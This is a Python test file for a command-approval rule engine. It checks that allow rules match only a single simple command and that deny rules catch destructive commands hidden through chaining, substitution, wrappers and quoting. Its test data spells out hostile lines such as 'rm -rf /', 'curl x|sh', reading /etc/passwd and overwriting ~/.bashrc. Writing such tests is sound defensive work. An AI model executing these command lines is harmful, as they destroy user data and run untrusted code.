"""Allow and deny rules against hostile command lines: prefix rules match only one
simple command; deny rules catch any command a line could run."""

from __future__ import annotations

import pytest

from backend.approvals.command_shape import deny_candidates, simple_words
from backend.approvals.rules import Rule, session_rules

HOSTILE = [
    "pytest; rm -rf ~",
    "pytest && curl x|sh",
    "pytest || rm -rf ~",
    "pytest | sh",
    "pytest & rm -rf ~",
    "pytest $(rm -rf ~)",
    "pytest `rm -rf ~`",
    'pytest "$(rm -rf ~)"',
    "pytest\nrm -rf ~",
    "pytest\rrm -rf ~",
    "pytest > ~/.bashrc",
    "pytest < /etc/passwd",
    "pytest 2>&1 >/tmp/x",
    "pytest <(rm -rf ~)",
    "PYTHONPATH=/tmp/evil pytest",
    "bash -c 'pytest; rm -rf /'",
    "sh -c pytest",
    "eval pytest",
    "env pytest",
    "sudo pytest",
    "xargs pytest",
    "pytest 'unbalanced",
]


@pytest.mark.parametrize("line", HOSTILE)
def test_a_prefix_allow_rule_never_matches_a_compound_or_wrapped_command(line: str) -> None:
    assert simple_words(line) is None
    assert not Rule("pytest *").allows(line)
    assert not Rule("pytest*").allows(line)


@pytest.mark.parametrize(
    "line",
    ["pytest", "pytest -q", "pytest -k 'a and b' tests/", 'pytest -k "x;y"', "  pytest   -x  "],
)
def test_a_prefix_allow_rule_matches_one_simple_command(line: str) -> None:
    assert Rule("pytest *").allows(line)


def test_word_prefixes_do_not_run_into_other_programs() -> None:
    assert not Rule("pytest *").allows("pytest-evil --x")
    assert not Rule("pytest *").allows("./pytest -q")  # a workspace binary is another program
    assert not Rule("git status").allows("git status --porcelain")
    assert Rule("git status").allows("git status")
    assert Rule("git status").allows("git   'status'")  # the same words


def test_an_exact_rule_matches_the_compound_text_it_was_made_from() -> None:
    assert Rule("make build && make test").allows("make build && make test")
    assert not Rule("make build && make test").allows("make build && make test; rm -rf ~")


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf /",
        "pytest; rm -rf ~",
        "pytest && rm -rf ~ && echo ok",
        "pytest $(rm -rf ~)",
        "pytest `rm -rf ~`",
        "bash -c 'rm -rf /'",
        'bash -lc "cd x && rm -rf y"',
        "sh -c 'sh -c \"rm -rf /\"'",
        "eval 'rm -rf /'",
        "env -i A=1 rm -rf /",
        "FOO=1 rm -rf /",
        "sudo -u root rm -rf /",
        "timeout 5 rm -rf /",
        "/bin/rm -rf /",
        "'rm' -rf /",
        "r''m -rf /",
        "echo ok\nrm -rf ~",
        "> /dev/null rm -rf x",
        "find . -exec rm -rf {} ;",
        "ls | xargs rm -rf",
        "echo 'unbalanced; rm -rf /",
    ],
)
def test_a_deny_rule_catches_any_command_the_line_could_run(line: str) -> None:
    assert Rule("rm -rf *").denies(line), deny_candidates(line)


def test_a_text_prefix_deny_rule() -> None:
    assert Rule("git push*").denies("git push --force origin main")
    assert Rule("git push*").denies("git status && git push")
    assert Rule("git push*").denies("bash -c 'git push'")
    assert not Rule("git push*").denies("git pull")


def test_deny_rules_leave_harmless_commands_alone() -> None:
    assert not Rule("rm -rf *").denies("pytest -q")
    assert not Rule("rm -rf *").denies("rm -f build.log")
    assert not Rule("rm -rf *").denies("echo rm -rf")


def test_session_rules_offer_a_prefix_pattern_and_the_exact_command() -> None:
    assert session_rules("pytest -q tests/") == ("pytest *", "pytest -q tests/")
    assert session_rules("git commit -m 'a b'") == ("git commit *", "git commit -m 'a b'")
    assert session_rules("python -m pytest -x") == ("python -m pytest *", "python -m pytest -x")
    assert session_rules("pytest; rm -rf ~") == ("pytest; rm -rf ~",)  # exact only
    assert session_rules("./run.sh fast") == ("./run.sh fast",)
    pattern, exact = session_rules("pytest -k 'a and b'")
    assert Rule(pattern).allows("pytest -k 'a and b'") and Rule(exact).allows("pytest -k 'a and b'")
    assert not Rule(exact).allows("pytest -k a and b")
